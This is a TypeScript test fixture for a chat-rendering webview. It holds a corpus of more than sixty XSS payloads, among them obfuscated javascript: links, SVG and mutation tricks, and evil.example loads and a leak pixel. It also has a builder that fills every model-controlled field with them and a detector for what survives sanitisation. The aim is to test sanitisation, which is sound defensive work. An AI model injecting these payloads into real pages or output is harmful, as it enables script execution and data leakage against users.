/**
 * Hostile model output: strings that try to run script, navigate, load something or restyle the
 * view, and where the model (or a page it quotes) can put them. The unit tests render each payload
 * in every model-controlled field of a turn and check that nothing executable survived; an e2e
 * test can reuse the same corpus, turn builder and check in a real webview.
 *
 * Kept DOM-only (no jsdom, no node) so a browser test can import it as it is.
 */
import type { ContentBlock, ViewTurn } from '../../../src/common/protocol';

/** One payload, named for the trick it tries. */
export interface HostilePayload {
  name: string;
  payload: string;
}

const TAB = '\t';
const NL = '\n';

/** The corpus: at least 60 payloads, grouped by what they try. */
export const HOSTILE_PAYLOADS: readonly HostilePayload[] = [
  // Script and event-handler markup.
  { name: 'script tag', payload: 'Hi <script>window.pwned = 1</script> there' },
  { name: 'script block alone', payload: '<script>' + NL + 'window.pwned = 1' + NL + '</script>' },
  { name: 'script with src', payload: '<script src="https://evil.example/x.js"></script>' },
  { name: 'uppercase script', payload: '<SCRIPT>window.pwned=1</SCRIPT>' },
  { name: 'script split by a null', payload: '<scr\u0000ipt>window.pwned=1</scr\u0000ipt>' },
  { name: 'img onerror', payload: '<img src=x onerror="window.pwned=1">' },
  { name: 'img onerror without quotes', payload: '<img src=x onerror=window.pwned=1//>' },
  { name: 'body onload', payload: '<body onload="window.pwned=1">' },
  { name: 'div onclick', payload: '<div onclick="window.pwned=1">click me</div>' },
  { name: 'onmouseover with slash separator', payload: '<a/onmouseover="window.pwned=1">hover</a>' },
  { name: 'details ontoggle', payload: '<details open ontoggle="window.pwned=1"><summary>x</summary></details>' },
  { name: 'input autofocus onfocus', payload: '<input autofocus onfocus="window.pwned=1">' },
  { name: 'video source onerror', payload: '<video><source onerror="window.pwned=1"></video>' },
  { name: 'marquee onstart', payload: '<marquee onstart="window.pwned=1">x</marquee>' },
  // javascript:, data:, vbscript: links and their obfuscations.
  { name: 'markdown javascript: link', payload: '[click](javascript:window.pwned=1)' },
  { name: 'mixed case scheme', payload: '[click](JaVaScRiPt:window.pwned=1)' },
  { name: 'tab inside the scheme', payload: `[click](java${TAB}script:window.pwned=1)` },
  { name: 'newline inside the scheme (html)', payload: `<a href="java${NL}script:window.pwned=1">click</a>` },
  { name: 'entity-encoded tab in scheme', payload: '[click](jav&#x09;ascript:window.pwned=1)' },
  { name: 'entity-encoded colon', payload: '[click](javascript&colon;window.pwned=1)' },
  { name: 'decimal entities for the scheme', payload: '[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.pwned=1)' },
  { name: 'leading spaces and control chars', payload: '[click](%20%01javascript:window.pwned=1)' },
  { name: 'angle-bracket destination', payload: '[click](<javascript:window.pwned=1>)' },
  { name: 'javascript: autolink', payload: '<javascript:window.pwned=1>' },
  { name: 'data: html link', payload: '[open](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)' },
  { name: 'data: link with whitespace', payload: '[open]( data:text/html,<script>window.pwned=1</script> )' },
  { name: 'vbscript: link', payload: '[x](vbscript:msgbox(1))' },
  { name: 'VBScript: mixed case html', payload: '<a href="VbScRiPt:msgbox(1)">x</a>' },
  { name: 'raw javascript: url', payload: 'javascript:window.pwned=1' },
  // SVG and MathML tricks.
  { name: 'svg onload', payload: '<svg onload="window.pwned=1"><circle r="1"/></svg>' },
  { name: 'svg animate href', payload: '<svg><a><animate attributeName="href" values="javascript:window.pwned=1"/><text y="20">x</text></a></svg>' },
  { name: 'svg script', payload: '<svg><script>window.pwned=1</script></svg>' },
  { name: 'svg foreignObject', payload: '<svg><foreignObject><iframe src="javascript:window.pwned=1"></iframe></foreignObject></svg>' },
  { name: 'svg use external', payload: '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCI+PC9zdmc+#x"/></svg>' },
  { name: 'math xlink:href', payload: '<math><mtext><a xlink:href="javascript:window.pwned=1">x</a></mtext></math>' },
  { name: 'math maction', payload: '<math><maction actiontype="statusline" xlink:href="javascript:window.pwned=1">x</maction></math>' },
  { name: 'svg as a markdown image', payload: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5wd25lZD0xIj48L3N2Zz4=)' },
  // Forms, meta refresh, base href, frames, objects.
  { name: 'form with action', payload: '<form action="https://evil.example"><input name="q"><button>go</button></form>' },
  { name: 'button formaction', payload: '<button form="f" formaction="javascript:window.pwned=1">go</button>' },
  { name: 'meta refresh', payload: '<meta http-equiv="refresh" content="0;url=https://evil.example">' },
  { name: 'base href', payload: '<base href="https://evil.example/">' },
  { name: 'iframe', payload: '<iframe src="https://evil.example"></iframe>' },
  { name: 'iframe srcdoc', payload: '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>' },
  { name: 'object data', payload: '<object data="javascript:window.pwned=1"></object>' },
  { name: 'embed src', payload: '<embed src="data:text/html,<script>window.pwned=1</script>">' },
  { name: 'link stylesheet', payload: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  // Style and CSS.
  { name: 'style tag', payload: '<style>body { display: none }</style>' },
  { name: 'style attribute', payload: '<p style="position:fixed;inset:0;background:red">cover</p>' },
  { name: 'css import', payload: '<style>@import url("https://evil.example/x.css");</style>' },
  { name: 'css expression', payload: '<div style="width: expression(window.pwned=1)">x</div>' },
  // Markdown link and image titles, reference links, autolinks.
  { name: 'link title breakout', payload: '[a](https://example.com "t\\" onmouseover=\\"window.pwned=1")' },
  { name: 'image title breakout', payload: '![a](https://example.com/x.png "t\\" onerror=\\"window.pwned=1")' },
  { name: 'remote image (tracking pixel)', payload: '![pixel](https://evil.example/leak?secret=1)' },
  { name: 'reference link to javascript:', payload: '[click][r]' + NL + NL + '[r]: javascript:window.pwned=1 "title"' },
  { name: 'reference image to data:', payload: '![x][i]' + NL + NL + '[i]: data:image/png;base64,AAAA' },
  { name: 'email autolink with markup', payload: '<a@b.c><img src=x onerror=window.pwned=1>' },
  { name: 'gfm autolink with quote', payload: 'www.example.com/"onmouseover="window.pwned=1' },
  // Entities, broken and nested tags, mutation XSS.
  { name: 'entity-encoded script', payload: '&lt;script&gt;window.pwned=1&lt;/script&gt;' },
  { name: 'unclosed tag', payload: '<img src=x onerror=window.pwned=1' },
  { name: 'nested broken tags', payload: '<<script>script>window.pwned=1<</script>/script>' },
  { name: 'comment breakout', payload: '<!--><img src=x onerror=window.pwned=1>-->' },
  { name: 'noscript mutation', payload: '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">' },
  { name: 'style in svg mutation', payload: '<svg></p><style><a id="</style><img src=x onerror=window.pwned=1>">' },
  { name: 'math mglyph mutation', payload: '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>' },
  { name: 'template mutation', payload: '<template><img src=x onerror=window.pwned=1></template>' },
  { name: 'textarea breakout', payload: '<textarea></textarea><img src=x onerror=window.pwned=1>' },
  { name: 'title breakout', payload: '<title></title><img src=x onerror=window.pwned=1>' },
  { name: 'html in a table cell', payload: '| a |' + NL + '|---|' + NL + '| <img src=x onerror=window.pwned=1> |' },
  { name: 'html inside a code fence', payload: '```html' + NL + '<script>window.pwned=1</script>' + NL + '```' },
  { name: 'forged code toolbar button', payload: '<button data-action="insert-code">Insert</button>' },
  { name: 'deep nesting with a script at the end', payload: `${'>'.repeat(3000)} <script>window.pwned=1</script>` },
];

/** Every model-controlled field of an assistant turn, each holding `payload`. */
export function hostileAssistantTurn(id: string, payload: string): ViewTurn {
  const blocks: ContentBlock[] = [
    { type: 'thinking', thinking: payload, signature: 'sig' },
    {
      type: 'text',
      text: payload,
      citations: [
        { type: 'web_search_result_location', url: payload, title: payload, cited_text: payload, encrypted_index: 'e' },
        { type: 'web_search_result_location', url: 'https://example.com/a', title: payload, cited_text: payload, encrypted_index: 'e' },
        { type: 'char_location', document_index: 0, document_title: payload, cited_text: payload, start_char_index: 0, end_char_index: 1 },
      ],
    },
    { type: 'tool_use', id: 'tu1', name: payload, input: { [payload]: payload, nested: [payload] } },
    { type: 'server_tool_use', id: 's1', name: 'web_search', input: { query: payload } },
    { type: 'web_search_tool_result', tool_use_id: 's1', content: [{ type: 'web_search_result', url: payload, title: payload, page_age: payload, encrypted_content: 'e' }] },
    { type: 'server_tool_use', id: 's2', name: 'web_fetch', input: { url: payload } },
    {
      type: 'web_fetch_tool_result',
      tool_use_id: 's2',
      content: { type: 'web_fetch_result', url: payload, retrieved_at: payload, content: { type: 'document', title: payload, source: { type: 'text', media_type: 'text/plain', data: payload } } },
    },
    { type: 'server_tool_use', id: 's3', name: 'bash_code_execution', input: { command: payload } },
    { type: 'bash_code_execution_tool_result', tool_use_id: 's3', content: { type: 'bash_code_execution_result', stdout: payload, stderr: payload, return_code: 1, content: [] } },
    { type: payload, data: payload },
  ];
  return {
    id,
    role: 'assistant',
    status: 'error',
    blocks,
    stopReason: 'end_turn',
    error: { message: payload, kind: 'unknown', retryable: true },
  };
}

/** A user turn carrying a tool's result: what a tool returns is no more trusted than the model. */
export function hostileToolResultTurn(id: string, payload: string): ViewTurn {
  return { id, role: 'user', status: 'done', blocks: [{ type: 'tool_result', tool_use_id: 'tu1', content: payload }] };
}

/**
 * What under `root` could run script, navigate or load: forbidden elements, event handler and
 * style attributes, and URL attributes with a script or data scheme (compared the way a browser
 * reads them: case-folded, with whitespace and control characters dropped). Empty when clean.
 *
 * Self-contained (its tables inside, no imports, no helpers) because the e2e test sends its source
 * into the real webview with `frame.evaluate`, where nothing outside the function exists.
 */
export function unsafeFindings(root: Element): string[] {
  const FORBIDDEN_TAGS = ['script', 'form', 'meta', 'base', 'iframe', 'frame', 'object', 'embed', 'svg', 'math', 'img', 'style', 'link', 'template', 'input', 'textarea'];
  const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc', 'background', 'poster'];
  const found: string[] = [];
  for (const tag of FORBIDDEN_TAGS) if (root.querySelector(tag)) found.push(`<${tag}>`);
  for (const el of [root, ...Array.from(root.querySelectorAll('*'))]) {
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase();
      const where = `${name} on <${el.tagName.toLowerCase()}>`;
      if (name.startsWith('on')) found.push(where);
      if (name === 'style') found.push(where);
      // eslint-disable-next-line no-control-regex -- control characters are exactly what browsers drop from a scheme
      const value = attr.value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
      if (URL_ATTRIBUTES.includes(name) && /^(?:javascript|vbscript|data):/.test(value)) found.push(`${where}: ${attr.value}`);
      if (name === 'href' && !/^(?:https?:|mailto:)/.test(value)) found.push(`non-web ${where}: ${attr.value}`);
    }
  }
  return found;
}
